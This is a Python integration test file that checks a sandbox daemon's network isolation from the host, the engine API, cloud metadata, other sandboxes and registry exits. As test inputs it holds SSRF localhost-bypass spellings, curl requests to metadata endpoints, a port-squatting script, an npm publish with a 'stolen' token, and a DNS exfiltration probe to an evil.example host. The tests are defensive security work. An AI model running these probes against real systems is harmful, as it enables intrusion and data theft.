"""ENGINE.md 5, rows 22 to 27: the host, its networks and the neighbours, from inside; then what must work."""

import asyncio
import socket
from urllib.parse import urlsplit

import pytest
from tests.integration.sandboxd_attacks.conftest import Inside, Maker
from tests.support.sandboxd import EngineProcess

from sandboxd.egress.upstream import Unreachable, Upstream
from sandboxd.registries import discover

CLOSED = {
    "ECONNREFUSED",
    "ENETUNREACH",
    "EHOSTUNREACH",
    "EPERM",
    "EACCES",
    "EADDRNOTAVAIL",
    "timeout",
}


def own_addresses() -> list[str]:
    """Addresses of this host's interfaces."""
    found = {entry[4][0] for entry in socket.getaddrinfo(socket.gethostname(), None)}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))  # sends nothing
        found.add(probe.getsockname()[0])
    return sorted(str(address) for address in found if "%" not in str(address))


async def reaches(address: str, port: int) -> bool:
    """The control: the same connection from the host."""
    try:
        _, writer = await asyncio.wait_for(asyncio.open_connection(address, port), 3)
    except (OSError, TimeoutError):
        return False
    writer.close()
    return True


async def test_22_24_no_address_of_the_host_answers(inside: Inside, host_server: int) -> None:
    addresses = ["127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::ffff:127.0.0.1", *own_addresses()]
    assert await reaches("127.0.0.1", host_server)
    assert await reaches(own_addresses()[0], host_server)
    for address in addresses:
        assert await inside.connects(address, host_server) in CLOSED, address


async def test_23_the_engines_own_api_is_out_of_reach(
    inside: Inside, engine: EngineProcess
) -> None:
    port = urlsplit(engine.url).port or 0
    assert await reaches("127.0.0.1", port)
    for address in ["127.0.0.1", "::1", *own_addresses()]:
        assert await inside.connects(address, port) in CLOSED
        assert "403" in await inside.by_proxy(address, port)


@pytest.mark.parametrize("host", ["169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]"])
async def test_25_cloud_metadata_is_unreachable_and_refused(inside: Inside, host: str) -> None:
    assert "403" in await inside.by_proxy(host, 80)
    if host[0].isdigit():
        assert await inside.connects(host, 80) in CLOSED
    answer = await inside.sh(
        f"curl -s -m 5 -o /dev/null -w '%{{http_code}}' http://{host}/latest/meta-data"
    )
    assert answer.startswith("403")


async def test_24_25_by_every_spelling_of_the_proxys_host(inside: Inside, host_server: int) -> None:
    spellings = [
        "127.0.0.1", "localhost", "0", "0.0.0.0", "127.1", "0x7f.1", "2130706433", "0177.0.0.1",
        "[::1]", "[::ffff:127.0.0.1]", "[::]", "127.0.0.1.", "LOCALHOST", "localhost.", "①②⑦.⓪.⓪.①",
        "10.0.0.1", "192.168.0.1", "100.64.0.1", socket.gethostname(), "host.docker.internal",
        "127.0.0.1.nip.example", "user@127.0.0.1", "127.0.0.1:80@evil.example",
    ]  # fmt: skip
    for spelling in spellings:
        page = await inside.sh(
            f"curl -s -m 5 --proxy http://127.0.0.1:3128 'http://{spelling}:{host_server}/'"
        )
        assert page != "host", spelling


async def test_26_another_sandbox_is_another_world(make: Maker) -> None:
    one, other = await make(), await make()
    await one.start("web", "cd /tmp && exec python3 -m http.server 5173 --bind 0.0.0.0")
    for _ in range(100):
        if await one.connects("127.0.0.1", 5173) == "open":
            break
    assert await one.connects("127.0.0.1", 5173) == "open"
    addresses = await one.sh("hostname -I; cat /proc/net/fib_trie | grep -oE '[0-9.]{7,}'")
    for address in {"127.0.0.1", *addresses.split()}:
        assert await other.connects(address, 5173) in CLOSED


async def test_27_an_allowed_name_that_leads_home_is_refused(make: Maker, host_server: int) -> None:
    """`localhost` stands for a rebinding name: it resolves, and to where nobody may go."""
    allowed = await make(domain_allow_list="localhost,*.localhost")
    assert "403" in await allowed.by_proxy("localhost", 80)
    page = await allowed.sh("curl -s -m 5 --noproxy '' http://localhost:80/")
    assert "not on the internet" in page
    assert await reaches("127.0.0.1", host_server)


async def test_a_sandbox_that_may_reach_nothing_has_no_proxy_either(make: Maker) -> None:
    blocked = await make(network_block_all=True)
    assert await blocked.connects("127.0.0.1", 3128) == "ECONNREFUSED"
    assert "3128" not in await blocked.sh("env")


async def test_the_proxys_port_cannot_be_taken_from_it_by_a_restart(make: Maker) -> None:
    """A program that waits for the server to die and then plays the proxy harms its own sandbox only."""
    from daytona import AsyncDaytona
    from tests.support.sandboxd import new_engine

    own = new_engine()
    try:
        async with AsyncDaytona(own.config) as client:
            box = Inside(await client.create())
            await box.start("squat", f"exec python3 -c '{SQUAT}'")
            assert own.process is not None
            own.process.kill()
            own.process.wait()
            await asyncio.sleep(1)
            own.start()
            again = Inside(await client.get(box.sandbox.id))
            assert again.sandbox.state == "stopped"
            await again.sandbox.start()
            assert "403" in await again.by_proxy("x.example", 443)
    finally:
        own.remove()


SQUAT = """
import socket, time
while True:
    try:
        s = socket.create_server(("127.0.0.1", 3128)); break
    except OSError: time.sleep(0.01)
time.sleep(600)
"""


@pytest.fixture
async def registries_answer() -> None:
    found = await discover()
    for name, address in (("npm", f"{found.npm}zod"), ("pip", f"{found.pypi}six/")):
        host = urlsplit(address).hostname or ""
        try:
            async with Upstream([host]) as upstream, upstream.fetch("HEAD", address, {}) as answer:
                assert answer.status < 500
        except (Unreachable, AssertionError) as error:
            pytest.skip(f"the registry that {name} names does not answer: {error}")


@pytest.mark.usefixtures("registries_answer")
async def test_npm_and_pip_install_inside(inside: Inside) -> None:
    assert "added" in await inside.sh("mkdir -p a && cd a && npm install zod", 120)
    assert "added" in await inside.sh("cd a && rm -rf node_modules && npm ci", 120)
    assert "zod" in await inside.sh("ls a/node_modules")
    said = await inside.sh(
        "pip install zipp && python3 -c 'import zipp; print(zipp.__file__)'", 120
    )
    assert "/home/daytona/" in said


@pytest.mark.usefixtures("registries_answer")
async def test_16_nothing_leaves_by_publishing(inside: Inside) -> None:
    """TRUST.md T16: an attacker's own token makes a registry an exit."""
    said = await inside.sh(
        'mkdir -p p && cd p && echo \'{"name":"canary-of-a-test","version":"1.0.0"}\' > package.json'
        " && echo '//127.0.0.1:3128/npm/:_authToken=stolen' > .npmrc && npm publish",
        60,
    )
    assert "403" in said
    assert "published" in said


async def test_16_unlisted_names_never_reach_a_resolver(inside: Inside) -> None:
    """DNS labels carry secrets out: inside there is no resolver, and the proxy asks none."""
    assert "secret" not in await inside.sh("getent hosts c2VjcmV0.evil.example || true")
    assert "403" in await inside.by_proxy("c2VjcmV0.evil.example", 443)
    assert "cannot be reached" in await inside.sh("curl -s -m 5 http://c2VjcmV0.evil.example/")
